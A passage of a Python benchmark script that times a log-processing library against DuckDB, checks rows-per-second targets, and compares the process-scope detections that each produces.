                f"{len(duck_open)}, common {len(ours_open & duck_open)}"
            )
            same = ours_open == duck_open
        report.heading("targets")
        checks = []
        ours = timings.get("ours, library, 1 job")
        ours2 = timings.get("ours, library, 2 jobs")
        duck = timings.get("DuckDB read_json + range join")
        for label, tm in (("1 job", ours), ("2 jobs", ours2)):
            if tm is None:
                continue
            rate = rows / tm.median
            checks.append(
                [
                    f">= {TARGET_ROWS_PER_S // 1000}k rows/s ({label})",
                    f"{rate / 1000:,.0f}k",
                    report.verdict(rate, TARGET_ROWS_PER_S, at_most=False),
                ]
            )
            if duck is not None:
                checks.append(
                    [
                        f"faster than DuckDB ({label})",
                        f"{ratio(tm, duck):.2f}x",
                        report.verdict(ratio(tm, duck), 1.0, at_most=True),
                    ]
                )
        if "a" in sections and "b" in sections:
            checks.append(
                [
                    "same process-scope detections (no approvals)",
                    f"ours {len(ours_open)}, DuckDB {len(duck_open)}, "
                    f"common {len(ours_open & duck_open)}",
                    "PASS" if same else "MISS",
                ]
            )
        if checks:
            report.table(["target", "measured", "verdict"], checks)
    finally:
        if args.keep:
            report.note(f"log kept: {path}")
        else:
            shutil.rmtree(tmp, ignore_errors=True)
    return 0


def _sample_rows(path: str, n: int) -> list[tuple[str, dict[str, Any], str]]:
    from readegress.logs.results import ResultsReader

    out: list[tuple[str, dict[str, Any], str]] = []
    for rec in ResultsReader(fast=False).event_rows([path]):
        if rec.table is not None:
            out.append((rec.table, dict(rec.row), rec.host))
        if len(out) >= n:
            break
    return out
